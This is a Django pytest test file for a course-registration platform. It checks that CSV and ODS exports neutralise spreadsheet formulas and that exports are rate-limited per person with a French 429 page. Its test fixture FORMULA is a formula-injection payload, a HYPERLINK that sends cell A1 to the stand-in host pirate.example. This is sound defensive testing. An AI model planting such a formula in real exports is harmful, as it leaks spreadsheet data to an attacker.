"""Exports (issue 21): every CSV goes through core.spreadsheets, so a name
typed as a spreadsheet formula stays text; exports are limited per person,
with one count for every web worker (the Redis cache) and a French 429."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from django.conf import settings
from django.test import override_settings
from django.urls import reverse

from core import exports
from courses.models import Registration
from tests.factories import UserFactory, register

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://pirate.example/?q="&A1;"Cliquez")'


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _export(client, action, registrations):
    return client.post(
        reverse("admin:courses_registration_changelist"),
        {"action": action, "_selected_action": [r.pk for r in registrations]},
    )


def test_coordinators_registrations_export_keeps_formulas_as_text(
    client, coordinator, preparation, candidate, candidate_other_centre
):
    candidate.last_name = FORMULA
    candidate.first_name = "+33 6 12 34 56 78"
    candidate.save()
    client.force_login(coordinator)
    response = _export(client, "export_csv", Registration.objects.all())
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][1] == "'+33 6 12 34 56 78"
    # Only the coordinator's centre, even when another centre's id is posted.
    usernames = [row[2] for row in rows[1:]]
    assert usernames == [candidate.username]


def test_registrations_export_as_ods_holds_the_formula_as_a_string(client, coordinator, candidate):
    import zipfile

    candidate.last_name = FORMULA
    candidate.save()
    client.force_login(coordinator)
    response = _export(client, "export_ods", Registration.objects.all())
    assert response.status_code == 200
    content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml").decode()
    assert "table:formula" not in content
    assert 'office:value-type="string"' in content


def test_glossary_csv_export_keeps_formulas_as_text(client, producer, exam_course):
    from content.models import GlossaryEntry

    GlossaryEntry.objects.create(
        course=exam_course,
        term=FORMULA,
        definition="<p>-1 n’est pas une formule</p>",
        status=GlossaryEntry.Status.APPROVED,
    )
    client.force_login(producer)
    response = client.get(
        reverse("content:glossary_export", kwargs={"course_slug": exam_course.slug, "fmt": "csv"})
    )
    assert response.status_code == 200
    rows = _rows(response)
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][1].startswith("<p>")


@override_settings(EXPORTS_PER_HOUR=2)
def test_exports_are_limited_per_person_with_a_french_page(
    client, coordinator, other_coordinator, candidate
):
    client.force_login(coordinator)
    for _attempt in range(2):
        assert _export(client, "export_csv", [candidate.registrations.get()]).status_code == 200
    refused = _export(client, "export_ods", [candidate.registrations.get()])
    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    page = refused.content.decode()
    assert "Trop d’exports" in page or "Trop d'exports" in page
    assert "Rien n’a été exporté" in page or "Rien n'a été exporté" in page
    # Another person has their own count.
    client.force_login(other_coordinator)
    assert _export(client, "export_csv", []).status_code in (200, 302)


@override_settings(EXPORTS_PER_HOUR=0)
def test_accounts_export_is_limited(client, coordinator, candidate):
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:accounts_user_changelist"),
        {"action": "export_csv", "_selected_action": [candidate.pk]},
    )
    assert response.status_code == 429
    assert "candidate" not in response.content.decode().split("<main", 1)[-1].split("</main>")[0]


@override_settings(EXPORTS_PER_HOUR=0)
def test_personal_data_export_is_limited(client, candidate):
    from core.models import DataExport

    client.force_login(candidate)
    response = client.post(reverse("my_data"), {"action": "export"})
    assert response.status_code == 429
    assert not DataExport.objects.exists()


def test_the_count_is_shared_by_every_worker(candidate):
    """Another process (a second gunicorn worker) sees this one's exports."""
    assert "redis" in settings.CACHES["default"]["BACKEND"].lower()
    for _attempt in range(settings.EXPORTS_PER_HOUR):
        assert exports.retry_after(candidate) == 0
    code = (
        "import django, json; django.setup();"
        "from types import SimpleNamespace; from core import exports;"
        f"print(json.dumps(exports.retry_after(SimpleNamespace(pk={candidate.pk}))))"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings"}
    out = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    )
    assert json.loads(out.stdout.strip().splitlines()[-1]) > 0
    assert exports.retry_after(UserFactory(username="someone-else")) == 0


def test_registering_keeps_the_limit_out_of_the_way(candidate, preparation):
    """Registering (not an export) counts nothing."""
    other = UserFactory(username="candidate-x", centre=preparation.centre)
    register(other, preparation)
    assert exports.retry_after(other) == 0
